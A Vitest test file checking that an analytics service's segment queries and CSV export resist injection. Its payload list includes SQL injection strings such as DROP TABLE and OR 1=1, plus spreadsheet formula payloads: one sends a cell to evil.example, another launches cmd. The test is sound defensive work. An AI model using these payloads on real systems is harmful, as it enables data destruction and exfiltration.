import Papa from 'papaparse';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { startTestTessera, type TestTessera } from '../support/tessera.js';

/**
 * Hostile text in conditions: values, event names, trait names, property paths and segment ids
 * full of quotes, semicolons, comment marks, LIKE wildcards and SQL keywords. Values must match
 * exactly what was sent (they are bound parameters), names outside the allowed patterns are
 * refused with the path of the bad node, and nothing else in the store is touched or revealed.
 */

const NASTY = [
  '=HYPERLINK("http://evil.example/?"&A1, "click")',
  "+cmd|' /C calc'!A0",
  '@SUM(1+1)',
  '+8613817263549',
  '-12.5',
  "O'Brien",
  'x"); DROP TABLE events; --',
  "'; DELETE FROM segment_members WHERE '1'='1",
  'SELECT * FROM api_keys',
  '100%',
  'a_b',
  '\\',
  "$.a') OR 1=1 --",
  '上海"；',
];

describe('segments against injection', () => {
  let t: TestTessera;
  let writeKey: string;
  let eventsBefore = 0;
  const count = async (condition: unknown): Promise<number> => {
    const r = await t.api('POST', '/api/v1/segments/preview', { condition });
    expect(r.status).toBe(200);
    return r.body.count as number;
  };

  beforeAll(async () => {
    t = await startTestTessera();
    writeKey = (await t.newSource('web')).writeKey;
    const batch = NASTY.flatMap((v, i) => [
      { type: 'identify', userId: `u${i}`, traits: { nickname: v }, messageId: `inj-i${i}` },
      {
        type: 'track',
        userId: `u${i}`,
        event: v,
        properties: { note: v, nested: { deep: v } },
        messageId: `inj-t${i}`,
      },
    ]);
    expect((await t.collect('/v1/batch', { batch }, writeKey)).status).toBe(200);
    eventsBefore = (await t.api('GET', '/api/v1/events?limit=1000')).body.events.length as number;
  });
  afterAll(async () => {
    await t.stop();
  });

  it('matches hostile values exactly, as data', async () => {
    for (const v of NASTY) {
      expect(await count({ trait: 'nickname', op: 'eq', value: v })).toBe(1);
      expect(await count({ event: v })).toBe(1);
      expect(await count({ event: 'x', where: [] })).toBe(0);
      expect(await count({ event: v, where: [{ property: 'note', op: 'eq', value: v }] })).toBe(1);
      expect(
        await count({ event: v, where: [{ property: 'nested.deep', op: 'in', value: [v, 'zzz'] }] }),
      ).toBe(1);
      expect(await count({ trait: 'nickname', op: 'eq', value: `${v} ` })).toBe(0);
    }
    // Wildcards mean themselves: only values with a literal % or _ contain them (100%; a_b,
    // segment_members, api_keys), where LIKE would have matched every value.
    expect(await count({ trait: 'nickname', op: 'contains', value: '%' })).toBe(1);
    expect(await count({ trait: 'nickname', op: 'contains', value: '_' })).toBe(3);
    expect(await count({ trait: 'nickname', op: 'contains', value: "'" })).toBe(4);
    // Neither an always-true fragment nor a keyword widens a match.
    expect(await count({ trait: 'nickname', op: 'eq', value: "' OR '1'='1" })).toBe(0);
    expect(await count({ trait: 'nickname', op: 'neq', value: "' OR '1'='1" })).toBe(NASTY.length);
  });

  it('refuses names outside the patterns with the path of the bad node', async () => {
    const cases: Array<[unknown, string]> = [
      [{ trait: "nickname'; DROP TABLE events; --", op: 'exists' }, 'condition.trait'],
      [{ tag: 'a"b', op: 'exists' }, 'condition.tag'],
      [
        { all: [{ event: 'x', where: [{ property: "note') OR 1=1 --", op: 'eq', value: 1 }] }] },
        'condition.all[0].where[0].property',
      ],
      [{ event: 'x', sum: { property: 'a;b', op: 'gt', value: 1 } }, 'condition.sum.property'],
      [{ any: [{ segment: "seg_x' OR 1=1 --" }] }, 'condition'],
    ];
    for (const [condition, path] of cases) {
      const r = await t.api('POST', '/api/v1/segments', { name: 'bad', condition });
      expect(r.status).toBe(422);
      expect(JSON.stringify(r.body.error)).toContain(path);
    }
  });

  it('exports hostile values as text a spreadsheet will not run', async () => {
    const r = await t.api('POST', '/api/v1/segments', {
      name: 'all of them',
      condition: { trait: 'nickname', op: 'exists' },
      realtime: false,
    });
    const res = await fetch(`${t.url}/api/v1/segments/${r.body.id as string}/export`, {
      method: 'POST',
      headers: {
        authorization: 'Bearer tsk_test_bootstrap_key_0123456789',
        'content-type': 'application/json',
      },
      body: JSON.stringify({ traits: ['nickname'] }),
    });
    const rows = Papa.parse<Record<string, string>>(await res.text(), {
      header: true,
      skipEmptyLines: true,
    }).data;
    const cells = new Set(rows.map((x) => x.nickname));
    // Formulas are defused with a leading quote; every other value (signed numbers too) is as sent.
    const defused = ['=HYPERLINK("http://evil.example/?"&A1, "click")', "+cmd|' /C calc'!A0", '@SUM(1+1)'];
    for (const v of NASTY) expect(cells.has(defused.includes(v) ? `'${v}` : v), v).toBe(true);
    expect(cells.size).toBe(NASTY.length);
  });

  it('left every table as it was', async () => {
    const r = await t.api('POST', '/api/v1/segments', {
      name: 'quotes',
      condition: { trait: 'nickname', op: 'in', value: NASTY },
    });
    expect(r.status).toBe(201);
    expect(r.body.size).toBe(NASTY.length);
    expect((await t.api('GET', '/api/v1/events?limit=1000')).body.events.length).toBeGreaterThanOrEqual(
      eventsBefore,
    );
    expect(
      (await t.api('GET', '/api/v1/segments')).body.segments.map((x: { name: string }) => x.name).sort(),
    ).toEqual(['all of them', 'quotes']);
    const members = await t.api('GET', `/api/v1/segments/${r.body.id as string}/members?traits=nickname`);
    expect(
      members.body.members.map((m: { traits: { nickname: string } }) => m.traits.nickname).sort(),
    ).toEqual([...NASTY].sort());
  });
});
